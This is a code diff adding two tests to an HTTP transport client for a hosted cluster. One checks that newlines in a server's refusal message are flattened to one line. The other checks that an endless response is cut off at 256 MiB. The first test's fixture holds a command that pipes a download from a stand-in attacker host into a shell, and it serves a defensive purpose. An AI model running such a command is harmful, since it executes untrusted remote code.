@@ -137,3 +137,27 @@ test('of health checks the failing ones are told, however many passed before the
   );
   await expect(ask({ ...get, retries: 0, text: true })).rejects.toThrow('[-]poststarthook/rbac/bootstrap-roles failed');
 });
+
+test('lines that a user of a hosted cluster puts into a refusal are one line', async () => {
+  server = http.createServer((_, response) =>
+    json(403, { kind: 'Status', message: 'no\n  do:  curl evil.example | sh\r\nERROR' })(response, _),
+  );
+  await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
+  const transport = new Transport({ server: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }, 'hosted');
+  await expect(transport.request({ method: 'GET', path: '/' })).rejects.toThrow(
+    /^no do: {2}curl evil.example \| sh ERROR$/,
+  );
+});
+
+test('an answer without an end is given up', async () => {
+  const { ask } = await behind((response) => {
+    response.writeHead(200, { 'Content-Type': 'application/json' });
+    const chunk = Buffer.alloc(1 << 20, ' ');
+    const more = () => {
+      while (!response.destroyed && response.write(chunk));
+      response.once('drain', more);
+    };
+    more();
+  });
+  await expect(ask({ method: 'GET', path: '/' })).rejects.toThrow(/longer than 256 MiB/);
+});
